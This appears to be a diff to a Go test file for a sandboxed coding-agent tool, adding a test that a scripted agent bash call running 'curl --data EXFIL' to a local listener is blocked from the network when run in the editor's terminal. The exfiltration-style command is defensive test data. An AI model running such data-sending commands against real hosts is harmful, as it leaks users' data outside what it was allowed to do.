@@ -19,6 +19,7 @@ import (
 	"github.com/stretchr/testify/require"
 
 	"github.com/dsh-acp/dsh-acp/composition"
+	"github.com/dsh-acp/dsh-acp/internal/acpclient"
 	"github.com/dsh-acp/dsh-acp/sandbox"
 )
 
@@ -296,4 +297,24 @@ func TestContainedProtectedFiles(t *testing.T) {
 			assert.False(t, exists(filepath.Join(l.ws, "PWNED")))
 		})
 	}
+}
+
+// A command run in the editor's terminal is kept off the network as well:
+// the editor is handed the contained argv, the listener gets nothing, and
+// the result says why.
+func TestContainedNetworkInTheEditorsTerminal(t *testing.T) {
+	project := t.TempDir()
+	store := t.TempDir()
+	p := newProvider()
+	terms := &acpclient.Terminals{}
+	s := serveClient(t, "default", openStore(t, store), project, p, acpclient.Options{Terminals: terms}, nil)
+	sid := s.newSession(t, project).SessionID
+	sk := newSink(t)
+	args, _ := json.Marshal(map[string]string{"command": "curl -sS --max-time 5 --data EXFIL " + sk.url(), "description": "send"})
+	p.script("send", toolCall{Name: "bash", Args: string(args)})
+	s.prompt(t, sid, "send")
+	awaitReleased(t, terms)
+	require.NotEmpty(t, terms.Created(), "the command ran in the editor's terminal")
+	assert.Zero(t, sk.conns.Load())
+	assert.Contains(t, lastResult(t, store, sid).text(), sandbox.NetMarker(sandbox.WorkspaceWrite))
 }
